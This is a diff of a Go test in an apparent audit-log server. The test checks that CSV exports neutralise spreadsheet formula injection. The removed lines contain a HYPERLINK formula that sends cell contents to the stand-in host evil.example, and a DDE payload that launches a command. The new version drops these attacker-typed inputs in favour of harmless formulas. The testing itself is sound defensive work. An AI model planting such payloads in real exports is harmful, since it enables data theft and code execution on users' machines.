@@ -18,6 +18,7 @@ import (
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
 
+	"github.com/cairn-audit/cairn/internal/auth"
 	"github.com/cairn-audit/cairn/internal/event"
 	"github.com/cairn-audit/cairn/internal/journal/journaltest"
 	"github.com/cairn-audit/cairn/internal/server"
@@ -452,18 +453,20 @@ func TestConsolePagingARelativeRange(t *testing.T) {
 	}
 }
 
-// TestConsoleCSVNeutralisesFormulas downloads a record whose values an
-// outsider chose (the access key ID typed into a failed sign-in) as CSV: a
-// cell that a spreadsheet would run as a formula must not start with
-// = + - or @.
+// TestConsoleCSVNeutralisesFormulas downloads records whose user names
+// start with = + - @ (key names may) as CSV: a cell that a spreadsheet
+// would run as a formula must not start with one of them.
 func TestConsoleCSVNeutralisesFormulas(t *testing.T) {
 	h := servertest.Start(t)
 	ctx := context.Background()
-	outsider := newBrowser(t, h.URL)
-	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"}
-	for _, f := range formulas {
-		if resp := outsider.signIn(f, "wrong"); resp.StatusCode != http.StatusUnauthorized {
-			t.Fatalf("a sign-in with key ID %q: %d", f, resp.StatusCode)
+	formulas := []string{"=1+2", "+1+2", "-2+3", "@SUM"}
+	for _, name := range formulas {
+		k, secret, err := h.Server.Keys().Create(ctx, name, auth.RoleReadOnly)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := h.Client(k.AccessKeyID, secret, "us-east-1").ListTrails(ctx, &cloudtrail.ListTrailsInput{}); err != nil {
+			t.Fatal(err)
 		}
 	}
 	b := newBrowser(t, h.URL)
@@ -471,13 +474,13 @@ func TestConsoleCSVNeutralisesFormulas(t *testing.T) {
 	if err := h.Server.History().WaitIndexed(ctx, h.Server.Journal().LastSeq()); err != nil {
 		t.Fatal(err)
 	}
-	resp, body := b.get(b.downloadURL("csv", "k=EventName&v=ConsoleLogin"))
+	resp, body := b.get(b.downloadURL("csv", "k=EventName&v=ListTrails"))
 	if resp.StatusCode != http.StatusOK {
 		t.Fatalf("CSV download: %d %s", resp.StatusCode, body)
 	}
 	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
-	if err != nil || len(rows) != 1+len(formulas)+1 {
-		t.Fatalf("CSV download: %d rows (want a header, %d failed and 1 good sign-in), %v", len(rows), len(formulas), err)
+	if err != nil || len(rows) != 1+len(formulas) {
+		t.Fatalf("CSV download: %d rows (want a header and %d calls), %v", len(rows), len(formulas), err)
 	}
 	found := 0
 	for _, row := range rows[1:] {
@@ -493,7 +496,7 @@ func TestConsoleCSVNeutralisesFormulas(t *testing.T) {
 		}
 	}
 	if found != len(formulas) {
-		t.Errorf("%d of the %d typed key IDs are in the CSV as text", found, len(formulas))
+		t.Errorf("%d of the %d user names are in the CSV as text", found, len(formulas))
 	}
 }
 
